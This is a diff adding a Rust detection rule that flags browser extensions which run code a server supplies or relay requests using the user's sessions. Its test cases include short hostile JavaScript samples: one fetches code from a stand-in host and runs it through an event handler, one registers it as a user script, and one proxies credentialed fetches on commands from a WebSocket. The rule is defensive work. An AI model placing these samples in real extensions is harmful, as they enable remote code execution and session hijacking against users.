@@ -1,0 +1,78 @@
+//! `extension-obeys-server`.
+
+use crate::facts::Atom;
+use crate::signals::near::Near;
+use crate::signals::{Evidence, Held, Signal, one};
+use crate::stream::Kind;
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "extension-obeys-server",
+    description: "An extension runs text that a server gives, by a way around the rules of the browser, or makes requests with the sessions of its user for it.",
+    severity: Severity::High,
+    classes: ClassSet::MALWARE,
+    needs: &[one(&[Atom::ExtensionApi])],
+    within: 0,
+    only_if: Some(holds),
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            "chrome.storage.local.get('o',({o})=>{const d=document.createElement('div');d.setAttribute('onreset',o.fn);d.dispatchEvent(new Event('reset'))});fetch('https://c.example/s').then(r=>r.json()).then(o=>chrome.storage.local.set({o}))",
+            "fetch('https://c.example/s').then(r=>r.json()).then(({code})=>chrome.userScripts.register([{id:'m',js:[{code}]}]))",
+            "chrome.alarms.create('k',{});var ws=new WebSocket('wss://p.example/n');ws.onmessage=async e=>{var j=JSON.parse(e.data);var r=await fetch(j.url,{method:j.method,headers:j.headers,credentials:'include'});ws.send(JSON.stringify({id:j.id,status:r.status,body:await r.text()}))}",
+        ],
+        without: &[
+            "chrome.storage.local.get('o',({o})=>{const d=document.createElement('div');d.setAttribute('title',o.text);d.dispatchEvent(new Event('reset'))});fetch('https://c.example/s').then(r=>r.json())",
+            "chrome.scripting.executeScript({target,func:(c)=>{document.title=c},args:[c]});fetch('/a').then(r=>r.json())",
+            "chrome.alarms.create('k',{});var ws=new WebSocket('wss://p.example/n');ws.onmessage=async e=>{var j=JSON.parse(e.data);show(j.url);ws.send(JSON.stringify({id:j.id,status:1}))}",
+        ],
+    },
+};
+
+/// One of the ways in which it is done.
+fn holds(evidence: &Evidence<'_>, held: Held) -> bool {
+    runs(evidence, held) || relays(evidence, held)
+}
+
+/// Whether a text that is not written here becomes a handler, a user script or the argument of `Function`.
+fn runs(evidence: &Evidence<'_>, held: Held) -> bool {
+    let near = Near::new(evidence, held, 400);
+    let handler = near.words(&["setAttribute"]).any(|at| {
+        near.is(at + 1, b'(')
+            && near.word(at + 2).starts_with("on")
+            && near.word(at + 2).len() > 4
+            && near.is(at + 3, b',')
+            && near.kind(at + 4) == Some(Kind::Name)
+    }) && near.has_word(&["dispatchEvent"]);
+    let registered = near.words(&["register"]).any(|at| {
+        near.word(at.wrapping_sub(1)) == "userScripts"
+            && (at..at + 40).any(|at| {
+                near.word(at) == "code" && (near.is(at + 1, b'}') || near.kind(at + 2) == Some(Kind::Name))
+            })
+    });
+    // `executeScript({func: (c) => Function(c)(), args: [c]})`
+    let given = near.words(&["executeScript"]).any(|at| {
+        (at..at + 60).any(|at| {
+            matches!(near.word(at), "Function" | "eval")
+                && near.is(at + 1, b'(')
+                && near.kind(at + 2) == Some(Kind::Name)
+        }) && (at..at + 60).any(|at| near.word(at) == "args")
+    });
+    (handler || registered || given) && near.has_fact(&[Atom::AnswerBody, Atom::Request])
+}
+
+/// Whether orders of a socket say which address is requested, with the sessions of the user, and the answer goes back.
+fn relays(evidence: &Evidence<'_>, held: Held) -> bool {
+    let near = Near::new(evidence, held, 260);
+    let ordered = near.words(&["fetch"]).any(|at| {
+        near.is(at + 1, b'(') && near.kind(at + 2) == Some(Kind::Name) && near.word(at + 3) == "url"
+    });
+    let method =
+        near.words(&["method"]).any(|at| near.kind(at) == Some(Kind::Key) && near.word(at + 3) == "method");
+    ordered
+        && method
+        && near.has_word(&["WebSocket"])
+        && near.has(&["include"])
+        && near.has_word(&["status"])
+        && near.has_word(&["send"])
+}
